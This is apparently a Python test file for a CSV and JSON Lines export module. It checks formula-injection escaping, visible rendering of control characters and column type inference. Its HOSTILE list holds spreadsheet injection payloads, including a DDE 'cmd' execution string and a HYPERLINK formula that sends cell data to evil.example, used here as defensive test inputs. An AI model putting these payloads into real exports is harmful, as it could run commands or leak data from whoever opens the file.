"""CSV cells are text to every spreadsheet; JSON Lines is exact; types say what the values really are."""

import csv
import io
import unicodedata
from typing import Any

import orjson
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from dsr.bundle.table import BOM, Csv, Table, json_line, safe_text
from dsr.connectors import Column

SIGNS = "=+-@\t\r＝＋－＠"
HOSTILE = [
    "=1+1", "+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "＝1+1", "＋1", "－1", "＠A1", " =1", "\u00a0=1", "\u200b=1",
    "\ufeff=1", '"=1', "'=1", '" \' =1', "\n=1", "\x00=1", "\x01\x1f=1", "=cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")', "=IMPORTXML(1)", "\u202e=1", "\u2028=1", "\u3000=1", "\x85=1",
]  # fmt: skip


def table(*columns: tuple[str, str]) -> Table:
    return Table(Column(name, type_) for name, type_ in columns)


def cells(rows: list[dict[str, Any]], columns: Table) -> list[list[str]]:
    for row in rows:
        columns.see(row)
    writer = Csv(columns)
    content = (writer.head() + writer.rows(rows)).removeprefix(BOM).decode()
    return list(csv.reader(io.StringIO(content, newline=""), strict=True))


def looks_like_formula(cell: str) -> bool:
    """As a careful reader of the attack list would put it: skip what is not seen, then look at the first sign."""
    if cell[:1] in ("\t", "\r"):
        return True
    seen = [c for c in cell if not c.isspace() and c not in "\"'`" and unicodedata.category(c) not in ("Cc", "Cf")]
    return bool(seen) and seen[0] in SIGNS and cell[0] != "'"


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize("name", ["note", "=name"])
def test_a_formula_in_a_text_cell_or_a_column_name_is_text(text: str, name: str) -> None:
    head, row = cells([{name: text}], table((name, "string")))
    assert row[0].startswith("'")
    assert not looks_like_formula(head[0])


@given(st.text() | st.sampled_from(HOSTILE).flatmap(lambda sign: st.text().map(lambda rest: sign + rest)))
def test_no_text_whatever_becomes_a_formula_or_breaks_the_table(text: str) -> None:
    rows = cells([{"a": text, "b": 1}], table(("a", "string"), ("b", "integer")))
    assert len(rows) == 2
    assert rows[1][1] == "1"
    assert not looks_like_formula(rows[1][0])
    assert "\x00" not in rows[1][0]
    assert "\r" not in rows[1][0]


@given(st.text(alphabet=";|\t\n\"'ab=+@, "))
def test_taken_apart_at_another_delimiter_no_piece_is_a_formula(text: str) -> None:
    writer = Csv(table(("a", "string"), ("b", "string")))
    line = writer.rows([{"a": "x", "b": text}]).decode()
    for delimiter in ";\t|":
        for row in csv.reader(io.StringIO(line, newline=""), delimiter=delimiter):
            assert not any(looks_like_formula(cell.strip("\t\r\n")) for cell in row)


@pytest.mark.parametrize(
    "text", ["plain", "a-b", "a=b", "- in a\n- list", "1+1", "mail@example.com", "'quoted'", "héé 🙂"]
)
def test_ordinary_text_stays_as_it_is(text: str) -> None:
    assert (
        cells([{"a": text if not text.startswith("-") else "x" + text}], table(("a", "string")))[1][0].removeprefix("x")
        == text
    )


def test_numbers_stay_numbers_where_the_column_is_one() -> None:
    rows = cells(
        [{"n": "-5.20", "i": -5, "f": -0.5, "t": "-5"}],
        table(("n", "number"), ("i", "integer"), ("f", "number"), ("t", "string")),
    )
    assert rows[1] == ["-5.20", "-5", "-0.5", "'-5"]
    assert cells([{"n": "-5+cmd"}], table(("n", "number")))[1] == ["'-5+cmd"]


def test_control_characters_are_shown_as_pictures() -> None:
    assert safe_text("a\x00b\x1b[31m\x7f\x9b") == "a␀b␛[31m␡\ufffd"
    assert safe_text("one\r\ntwo\rthree") == "one\ntwo\nthree"


def test_null_empty_text_booleans_and_objects() -> None:
    columns = table(("a", "string"), ("b", "string"), ("c", "boolean"), ("d", "object"), ("e", "array"))
    row = {"a": None, "b": "", "c": True, "d": {"x": '"=1'}, "e": [1, None]}
    assert Csv(columns).rows([row]) == b',"",true,"{""x"":""\\""=1""}","[1,null]"\r\n'


@settings(max_examples=30)
@given(
    st.dictionaries(
        st.text(),
        st.recursive(
            st.none() | st.booleans() | st.text() | st.floats(allow_nan=False, allow_infinity=False), st.lists
        ),
    )
)
def test_json_lines_are_exact_and_one_line(data: dict[str, Any]) -> None:
    line = json_line(data)
    assert orjson.loads(line) == data
    assert line.count(b"\n") == 1
    assert b"\r" not in line


@pytest.mark.parametrize(
    ("declared", "values", "in_json", "in_csv"),
    [
        ("integer", [1, None, -5], "integer", "integer"),
        ("integer", [1, "x"], "any", "string"),
        ("integer", [1.5, 2], "number", "number"),
        ("number", ["1.50", 2, None], "number", "number"),
        ("number", ["1.50", "1,50"], "string", "string"),
        ("datetime", ["2026-01-01T10:00:00+00:00", None], "datetime", "datetime"),
        ("datetime", ["2026-13-01T10:00:00+00:00"], "string", "string"),
        ("date", ["2026-02-28"], "date", "date"),
        ("date", ["2026-02-30"], "string", "string"),
        ("boolean", [True, None], "boolean", "boolean"),
        ("boolean", [1, 0], "integer", "integer"),
        ("object", [{}, None], "object", "object"),
        ("object", [{}, []], "any", "string"),
        ("string", ["a", 1], "any", "string"),
        ("binary", ["aGk="], "string", "string"),
        ("string", [None], "string", "string"),
    ],
)
def test_a_type_is_what_was_declared_unless_a_value_says_otherwise(
    declared: str, values: list[Any], in_json: str, in_csv: str
) -> None:
    columns = table(("a", declared))
    for value in values:
        columns.see({"a": value})
    assert columns.fields(is_csv=False) == [{"name": "a", "type": in_json}]
    assert columns.fields(is_csv=True) == [{"name": "a", "type": in_csv}]


def test_columns_that_only_rows_have_follow_the_declared_ones() -> None:
    columns = table(("a", "string"))
    columns.see({"a": "x"})
    assert not columns.is_uneven
    columns.see({"b": 1, "a": "y"})
    columns.see({"a": "z"})
    assert columns.names == ["a", "b"]
    assert columns.is_uneven
